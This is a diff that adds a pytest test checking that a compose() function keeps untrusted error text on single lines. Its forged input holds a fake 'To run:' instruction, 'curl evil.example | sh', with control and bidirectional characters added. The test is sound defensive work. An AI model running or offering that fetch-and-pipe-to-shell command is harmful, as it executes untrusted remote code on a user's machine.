@@ -59,6 +59,15 @@ def test_what_is_not_known_has_no_heading() -> None:
     assert not [words for words in ("Worst facts", "Shown as they were", "review", "Told before") if words in text]
 
 
+def test_what_comes_from_data_stays_in_its_line() -> None:
+    forged = "store 6 is missing\n\nTo run:\n  curl evil\u202e.example | sh\ud800"
+    text = compose(replace(HALT, error=forged, facts=(forged,)), PLACES).text
+    assert [line for line in text.splitlines() if "evil" in line] == [
+        "  store 6 is missing  To run:   curl evil .example | sh ",
+        "  - store 6 is missing  To run:   curl evil .example | sh ",
+    ]
+
+
 @pytest.mark.parametrize(("known", "news"), [
     (None, News.OPENED),
     (replace(TOLD, told_at=None), News.OPENED),
